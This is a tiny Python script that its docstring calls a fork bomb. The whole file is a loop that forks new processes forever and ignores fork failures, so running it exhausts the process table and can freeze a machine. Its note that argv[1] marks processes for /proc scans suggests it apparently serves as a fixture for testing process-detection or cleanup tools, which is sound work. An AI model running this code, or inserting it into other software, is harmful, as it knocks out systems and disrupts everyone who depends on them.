"""A fork bomb: every process forks for ever, retrying when fork fails.
argv[1] is a marker for /proc scans."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
